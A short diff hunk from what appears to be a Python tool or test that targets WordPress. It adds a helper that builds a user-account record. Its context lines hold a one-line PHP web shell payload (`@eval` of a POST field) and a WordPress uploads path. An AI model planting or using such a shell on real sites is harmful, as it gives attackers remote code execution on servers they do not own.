@@ -47,3 +47,9 @@ SHELL = b'<?php @eval($_POST["c"]);'
 
 
 UP = f"{ROOT}/wp-content/uploads"
+
+
+def account(name: str, **more: str) -> dict[str, Any]:
+    """An account as a host names it."""
+    row = {"name": name, "uid": "1001", "gid": "1001", "home": "/home/x", "shell": "/bin/bash", "password": "set"}
+    return row | {"digest": "d"} | more
